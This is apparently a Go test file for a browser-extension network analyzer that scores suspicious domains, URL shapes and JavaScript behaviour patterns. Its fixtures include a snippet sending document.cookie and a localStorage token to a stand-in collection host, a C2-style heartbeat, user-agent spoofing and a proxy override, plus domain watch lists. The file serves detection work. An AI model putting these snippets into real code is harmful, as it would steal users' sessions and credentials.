package network

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/extension-analysis/extension-analysis-go/internal/analysis"
)

func TestMatchDomain(t *testing.T) {
	tests := []struct {
		host  string
		tier  Tier
		match bool
	}{
		{"coinhive.com", TierHigh, true},
		{"cdn.coinhive.com", TierHigh, true},
		{"pastebin.com", TierHigh, true},
		{"abc.ngrok.io", TierMedium, true},
		{"bit.ly", TierMedium, true},
		{"www.google-analytics.com", TierLow, true},
		{"coinhive-proxy.example.net", TierHigh, true},
		{"example.com", "", false},
		{"bitly-alternative.com", "", false},
		{"", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.host, func(t *testing.T) {
			e, ok := MatchDomain(tt.host)
			assert.Equal(t, tt.match, ok)
			if tt.match {
				assert.Equal(t, tt.tier, e.Tier)
			}
		})
	}
}

func TestClassifyURL_Shapes(t *testing.T) {
	c := NewURLClassifier(DefaultWeights)

	tests := []struct {
		url   string
		shape string
		score int
	}{
		{"http://192.168.10.5/x", ShapeIPLiteral, 20},
		{"http://abcdefghijklmnop.onion/", ShapeAnonymity, 20},
		{"https://a.example.com/p/aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", ShapeEmbeddedBase64, 10},
		{"https://a.example.com:4444/", ShapeUnusualPort, 10},
		{"https://xkqwrtzplmnbvc7x9q.com/", ShapeLongLabel, 10},
		{"https://a.example.com/gate.php", ShapeSuspiciousPath, 10},
		{"https://a.example.com/x?cookie=1", ShapeSuspiciousPath, 10},
		{"https://free-prizes.tk/", ShapeRareTLD, 5},
	}
	for _, tt := range tests {
		t.Run(tt.shape, func(t *testing.T) {
			res := c.ClassifyURL(tt.url)
			names := []string{}
			for _, s := range res.Shapes {
				names = append(names, s.Name)
			}
			assert.Contains(t, names, tt.shape)
			assert.GreaterOrEqual(t, res.ShapeScore, tt.score)
		})
	}

	clean := c.ClassifyURL("https://api.example.com/v1/items")
	assert.False(t, clean.Suspicious())
	assert.Empty(t, clean.Shapes)
	assert.Equal(t, 0, clean.ShapeScore)
}

func TestAnalyze_CleanScript(t *testing.T) {
	res, err := NewAnalyzer().Analyze(`var x = 1; console.log("https://example.com/docs");`)
	require.NoError(t, err)
	assert.Equal(t, 1, res.Endpoints.Total)
	assert.Equal(t, 1, res.Endpoints.Unique)
	assert.Empty(t, res.Endpoints.Suspicious)
	assert.Equal(t, 0, res.RiskScore)
	for _, c := range Categories {
		assert.NotNil(t, res.Findings[c], c)
	}
}

func TestAnalyze_DomainAndRequestScores(t *testing.T) {
	src := `
fetch("https://pastebin.com/raw/abc");
fetch("https://pastebin.com/raw/abc");
var s = new WebSocket("wss://relay.ngrok.io/socket");
`
	res, err := NewAnalyzer().Analyze(src)
	require.NoError(t, err)

	assert.Equal(t, 3, res.Endpoints.Total)
	assert.Equal(t, 2, res.Endpoints.Unique)
	assert.Equal(t, 1, res.DomainTierCount(TierHigh))
	assert.Equal(t, 1, res.DomainTierCount(TierMedium))
	assert.Equal(t, 25+15, res.DomainScore)
	assert.Equal(t, 10, res.RequestScore) // fetch + websocket
	assert.Equal(t, 50, res.RiskScore)
	assert.Equal(t, []string{"pastebin.com", "relay.ngrok.io"}, res.UniqueHosts())
}

// TestAnalyze_BehaviorPatterns 行为模式依赖调用点附近的共现特征
func TestAnalyze_BehaviorPatterns(t *testing.T) {
	src := `
setInterval(function () {
  var xhr = new XMLHttpRequest();
  xhr.open("POST", "https://collect.example.com/c");
  xhr.send(JSON.stringify({ c: document.cookie, s: localStorage.getItem("token") }));
}, 5000);
`
	res, err := NewAnalyzer().Analyze(src)
	require.NoError(t, err)

	assert.Equal(t, 1, res.BehaviorPatterns.Bulk)
	assert.Equal(t, 1, res.BehaviorPatterns.Exfiltration)
	assert.Equal(t, 0, res.BehaviorPatterns.C2)
	assert.Equal(t, 0, res.BehaviorPatterns.Evasion)
	assert.Len(t, res.Findings[CategoryExfiltration], 1)
	assert.Equal(t, analysis.SeverityCritical, res.Findings[CategoryExfiltration][0].Severity)
	// 行为模式不计入 riskScore
	assert.Equal(t, 5, res.RiskScore)
}

func TestAnalyze_C2StealthEvasion(t *testing.T) {
	src := `
setInterval(function () { fetch("https://cmd.example.com/heartbeat"); }, 60000);
setTimeout(function () { fetch(u, {headers: {"User-Agent": "Mozilla/5.0"}}); }, Math.random() * 1000);
chrome.proxy.settings.set({value: {mode: "pac_script"}});
`
	res, err := NewAnalyzer().Analyze(src)
	require.NoError(t, err)

	assert.GreaterOrEqual(t, res.BehaviorPatterns.C2, 1)
	assert.GreaterOrEqual(t, res.BehaviorPatterns.Stealth, 1)
	assert.GreaterOrEqual(t, res.BehaviorPatterns.Evasion, 1)
}

func TestAnalyze_ScoreCapped(t *testing.T) {
	var sb strings.Builder
	for i := 0; i < 50; i++ {
		sb.WriteString(`fetch("http://10.0.0.`)
		sb.WriteString(string(rune('0' + i%10)))
		sb.WriteString(`:4444/gate.php?cmd=x` + strings.Repeat("a", i) + `");` + "\n")
	}
	res, err := NewAnalyzer().Analyze(sb.String())
	require.NoError(t, err)
	assert.Equal(t, 100, res.RiskScore)
}

func TestAnalyze_InputTooLarge(t *testing.T) {
	res, err := NewAnalyzerWithWeights(DefaultWeights, 100).Analyze(strings.Repeat("x", 101))
	require.Error(t, err)
	assert.True(t, errors.Is(err, analysis.ErrInputTooLarge))
	assert.Equal(t, 100, res.RiskScore)
}

func TestAnalyze_MonotonicInDomains(t *testing.T) {
	a := NewAnalyzer()
	hosts := []string{"coinhive.com", "bit.ly", "pastebin.com", "ngrok.io", "hotjar.com"}
	src := ""
	prev := 0
	for _, h := range hosts {
		src += `x("https://` + h + `/p");` + "\n"
		res, err := a.Analyze(src)
		require.NoError(t, err)
		assert.GreaterOrEqual(t, res.RiskScore, prev)
		prev = res.RiskScore
	}
}
